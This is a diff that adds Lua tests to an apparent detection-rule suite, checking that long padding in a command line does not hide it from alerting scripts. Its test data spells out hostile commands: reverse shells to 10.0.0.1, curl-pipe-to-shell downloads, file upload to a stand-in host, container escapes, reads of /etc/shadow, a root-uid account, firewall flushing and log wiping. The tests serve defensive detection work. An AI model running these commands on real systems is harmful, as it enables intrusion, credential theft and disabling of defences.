@@ -1066,6 +1066,53 @@ script("timestomp", {
 
 local scripts_table = require "scripts_table"
 
+-- What is put before it does not hide what a command line is about: `PAD` stands where there is room for it.
+local padded = {
+  { "reverse-shell", "bash", "-c", "PADbash -i >& /dev/tcp/10.0.0.1/4242 0>&1" },
+  { "reverse-shell", "sh", "-c", "PADmkfifo /tmp/f; PAD cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f" },
+  { "reverse-shell", "python3", "-c", 'PADimport socket,os;os.dup2(1,0);os.system("/bin/sh")' },
+  { "reverse-shell", "socat", "-lp", "PAD", "TCP:10.0.0.1:4444", "EXEC:'  bash -li'" },
+  { "tunnels", "ssh", "host", "PAD cat > x" },
+  { "tunnels", "curl", "-H", "PAD", "-F", "f=@/etc/hosts", "http://x/" },
+  { "container-escape", "docker", "run", "-e", "PAD", "--privileged", "x" },
+  { "container-escape", "nsenter", "PAD", "-t", "1", "sh" },
+  { "container-escape", "mount", "-t", "cgroup", "-o", "PAD,rdma", "cgroup", "/mnt" },
+  { "container-escape", "sh", "-c", "PAD echo /x > /sys/fs/cgroup/rdma/release_agent" },
+  { "defence-off", "iptables", "-m", "comment", "--comment", "PAD", "-F" },
+  { "defence-off", "sysctl", "PAD", "kernel.randomize_va_space=0" },
+  { "account-commands", "useradd", "-c", "PAD", "-o", "-u", "0", "x", severity = "high" },
+  { "credential-files", "sed", "-e", "PAD", "p", "/proc/1234/environ" },
+  { "credential-files", "sh", "-c", "PAD while read l; do :; done < /etc/shadow" },
+  { "offensive-tools", "bash", "-c", "PADfor p in 1 2; do echo > /dev/tcp/host/$p; done" },
+  { "setuid-bit", "find", "PAD", "-perm", "-4000" },
+  { "shell-breakout", "vim", "PAD", "-c", ":!PAD/bin/sh" },
+  { "shell-breakout", "tar", "PAD", "--checkpoint-action=exec=PAD/bin/sh" },
+  { "shell-breakout", "awk", "PADBEGIN {system(  \"/bin/sh\")}" },
+  { "log-wiping", "bash", "-c", "PADhistory -c" },
+  { "cron-persistence", "sh", "-c", "PADecho x > /etc/cron.d/x" },
+  { "ld-preload", "sh", "-c", "PADLD_PRELOAD=/tmp/x.so ls" },
+  { "download-and-execute", "sh", "-c", "PADcurl http://x/a | sh" },
+}
+local paddings = { blanks = (" "):rep(20000), newlines = ("\n"):rep(20000), tabs = (" \t"):rep(10000),
+  ["a long word"] = ":" .. ("x"):rep(20000) .. "; ", ["words that say nothing"] = ": " .. ("y "):rep(1000) .. "; " }
+
+describe("padding hides nothing:", function()
+  for _, case in ipairs(padded) do
+    for what, padding in pairs(paddings) do
+      it(("%s, %s, %s"):format(case[1], table.concat(case, " ", 2), what), function()
+        local args = {}
+        for i = 2, #case do
+          args[i - 1] = case[i]:gsub("PAD", padding)
+        end
+        local host = script_host.new():load("scripts/" .. case[1] .. ".lua")
+        exec(args)(host)
+        assert.is_true(#host.alerts > 0)
+        assert.equal(case.severity or host.alerts[1].severity, host.alerts[1].severity)
+      end)
+    end
+  end
+end)
+
 -- Who starts a process chooses its text. In the sandbox a call has 50 ms; a pattern whose time grows with a power of
 -- the length takes seconds for this.
 local programs = { "sh", "nc", "python3", "find", "vim", "tar", "docker", "cat", "sed", "chmod", "useradd", "script",
